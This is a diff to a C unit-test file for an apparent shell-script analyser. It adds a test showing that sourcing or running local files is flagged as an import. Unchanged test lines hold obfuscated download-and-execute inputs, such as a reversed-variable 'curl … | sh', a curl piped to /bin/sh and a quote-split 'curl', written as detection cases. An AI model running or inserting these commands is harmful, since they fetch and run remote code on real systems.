@@ -46,7 +46,7 @@ static void silent(const char *text)
 {
 	struct member *m = sh_new(NULL, text);
 
-	if (m->n_facts) {
+	if (m->n_facts != member_count(m, FACT_IMPORT, NULL)) { /* which only names files that it runs */
 		facts_print(m);
 		fail_msg("%zu facts in: %s", m->n_facts, text);
 	}
@@ -96,6 +96,15 @@ static void test_spelling(void **state)
 	flows("x=lruc; `echo $x | rev` http://192.0.2.9/x | sh\n", "net>exec", NULL);
 	flows("h=example.test; curl \"https://${h/test/invalid}/x\" | /bin/sh\n", "net>exec", "example.invalid");
 	fires("c\"u\"rl http://192.0.2.9/x\n", FACT_OBFUSCATED, "escaped-identifiers", "curl");
+}
+
+/* Files that were there before: whoever runs them decides how they are read. */
+static void test_runs_files(void **state)
+{
+	fires(". /usr/share/thing/conf\n", FACT_IMPORT, "/usr/share/thing/conf", ".");
+	fires("python3 -u lib/table.csv\n", FACT_IMPORT, "lib/table.csv", "python3");
+	fires("sh ./setup\n", FACT_IMPORT, "./setup", "sh");
+	(void)state;
 }
 
 static void test_decoded(void **state)
@@ -318,6 +327,7 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_download_and_run),
 		cmocka_unit_test(test_spelling),
+		cmocka_unit_test(test_runs_files),
 		cmocka_unit_test(test_decoded),
 		cmocka_unit_test(test_leaks),
 		cmocka_unit_test(test_persistence),
